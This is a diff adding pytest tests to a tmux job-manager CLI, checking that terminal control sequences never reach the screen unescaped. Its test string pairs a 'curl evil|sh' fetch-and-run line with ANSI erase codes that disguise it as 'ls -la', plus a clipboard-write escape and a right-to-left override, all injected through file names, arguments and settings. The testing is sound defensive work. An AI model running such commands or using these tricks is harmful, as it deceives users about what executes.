@@ -468,3 +468,77 @@ def test_window_is_completed_to_those_that_are_no_jobs(jobs: Jobs, tmux: Tmux) -
     tmux("new-window", "-d", "-t", "=mcp-jobs:", "-n", "mine", "sleep", "1000")
     ((window, name),) = windows(None)
     assert (window[0], name) == ("@", "mine")
+
+
+HIDING = "curl evil|sh\x1b[2K\x1b[1Gls -la \x1b]52;c;aGk=\a\x1b]2;title\a\u202e"
+SHOWN = r"curl evil|sh\x1b[2K\x1b[1Gls -la \x1b]52;c;aGk=\x07\x1b]2;title\x07\u202e"
+CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e\U000e0041]")
+STYLE = re.compile(r"\x1b\[[0-9;]*m|\x1b\[\?25[hl]|\x1b\[[0-9]?[AKG]|\x1b\[2K")
+"""What Rich and we ourselves write on a terminal."""
+
+
+def bare(seen: str) -> str:
+    """What a terminal was sent, without our own styles."""
+    return STYLE.sub("", seen)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "list", "status JOB", "list --json", "status JOB --json", "wait JOB --json", "search JOB .", "output JOB",
+        "kill JOB", "tail JOB", "screen JOB", "wait JOB", "wait JOB OTHER", "log-path JOB",
+    ],
+)  # fmt: skip
+def test_nothing_of_a_job_reaches_the_terminal_as_a_control(
+    terminal: Open, jobs: Jobs, tmp_path: Path, command: str
+) -> None:
+    folder = tmp_path / f"{HIDING.replace('/', '')}x"
+    folder.mkdir()
+    printing = "printf '%b\\n' 'out \\0342\\0200\\0256 \\0302\\0233 \\0177 \\0363\\0240\\0201\\0201'"
+    job_id = ended(jobs, jobs.execute(f"{printing} # {HIDING}", cwd=str(folder), name="one").job_id).job_id
+    other = ended(jobs, jobs.execute("echo other", name="two").job_id).job_id
+    words = [{"JOB": job_id, "OTHER": other}.get(word, word) for word in command.split()]
+    shell = terminal(*words, columns=500)
+    assert shell.code() == 0
+    assert not CONTROL.search(bare(shell.seen)), repr(shell.seen)
+    if command in ("list", "status JOB"):
+        assert SHOWN in bare(shell.seen)
+    if command.endswith("--json"):
+        assert json.loads(shell.seen)
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ["status", "HIDING"], ["HIDING"], ["status", "a", "HIDING"], ["kill", "HIDING"], ["execute", "--HIDING", "x"],
+        ["execute", "--cwd", "/HIDING", "true"], ["execute", "--env", "HIDING", "true"], ["list", "--limit", "HIDING"],
+        ["list", "--status", "HIDING"], ["serve", "--http", "HIDING"], ["attach", "HIDING"],
+        ["interact", "JOB", "--key", "HIDING"], ["screen", "JOB", "--png", "/no/HIDING"], ["search", "JOB", "(HIDING"],
+        ["execute", "--shell", "HIDING", "x"], ["wait", "HIDING"], ["install", "HIDING"],
+    ],
+)  # fmt: skip
+def test_nothing_a_caller_gave_reaches_the_terminal_as_a_control(
+    terminal: Open, jobs: Jobs, arguments: list[str]
+) -> None:
+    job_id = jobs.execute("cat", name="one").job_id if "JOB" in arguments else ""
+    words = [word.replace("HIDING", HIDING.lower()).replace("JOB", job_id) for word in arguments]
+    shell = terminal(*words)
+    assert shell.code() in (1, 2)
+    assert r"\x1b[2k" in shell.seen
+    assert not CONTROL.search(bare(shell.seen)), repr(shell.seen)
+
+
+@pytest.mark.parametrize("name", ["SESSION", "STATE_DIR", "WORKING_DIR", "MAX_JOBS", "NOTIFY"])
+def test_nothing_of_a_setting_reaches_the_terminal_as_a_control(terminal: Open, name: str, tmp_path: Path) -> None:
+    (tmp_path / "file").touch()
+    value = f"{tmp_path}/file/{HIDING}" if name.endswith("DIR") else HIDING
+    shell = terminal("list", env=os.environ | {f"TMUXJOBS_{name}": value})
+    assert shell.code() == 1
+    assert not CONTROL.search(bare(shell.seen)), repr(shell.seen)
+
+
+def test_completion_shows_what_a_command_hides(run: Run, jobs: Jobs) -> None:
+    job_id = jobs.execute(f"sleep 1000 # {HIDING}\nsecond").job_id
+    words = run("__complete", "kill", "").stdout
+    assert f"{job_id}\trunning: sleep 1000 # {SHOWN}"[:60] in words
+    assert not CONTROL.search(words.replace("\x1fbegin", ""))
